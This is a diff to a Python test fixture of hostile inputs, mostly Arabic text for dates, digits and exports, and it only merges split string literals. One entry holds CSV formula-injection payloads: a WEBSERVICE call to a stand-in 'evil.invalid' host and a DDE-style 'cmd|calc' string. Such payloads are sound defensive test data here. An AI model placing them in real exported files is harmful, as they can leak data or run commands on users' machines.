@@ -31,14 +31,12 @@ NUMBERS: tuple[HostileInput, ...] = (
     block(
         "dates-impossible",
         "impossible dates: none on the timeline, no exception",
-        "وذكرت اللوحة 30/02/2024 و45/13/2031 و2024-00-00 و31 أبريل/نيسان 2024"
-        " ومارس/آب وسنة 987654321 والسبت الأحد",
+        "وذكرت اللوحة 30/02/2024 و45/13/2031 و2024-00-00 و31 أبريل/نيسان 2024 ومارس/آب وسنة 987654321 والسبت الأحد",
     ),
     block(
         "digits-mixed",
         "the first four are one number, the rest are no number for int()",
-        "وذكرت اللوحة ١٩٨٧ و۱۹۸۷ و1987 و\uff11\uff19\uff18\uff17"
-        " و\u00b9\u2079\u2078\u2077 و\u2167 و1٩۸7 و4٬200 و٢٫٧",
+        "وذكرت اللوحة ١٩٨٧ و۱۹۸۷ و1987 و\uff11\uff19\uff18\uff17 و\u00b9\u2079\u2078\u2077 و\u2167 و1٩۸7 و4٬200 و٢٫٧",
     ),
     block("integer-huge", "int() of 6,000 digits", f"وبلغ عدد السفن {'9' * 6000} سفينة", seconds=1),
     block(
@@ -53,8 +51,7 @@ EXPORTS: tuple[HostileInput, ...] = (
     block(
         "csv-formula",
         "spreadsheet formulas at the start of a cell",
-        '=WEBSERVICE("https://evil.invalid")\n\n+2+3\n\n-2-3\n\n@ABS(B2)\n\n'
-        "قال الصدفاني: «=1+cmd|calc» لا غير",
+        '=WEBSERVICE("https://evil.invalid")\n\n+2+3\n\n-2-3\n\n@ABS(B2)\n\nقال الصدفاني: «=1+cmd|calc» لا غير',
     ),
     block(
         "calendar-lines",
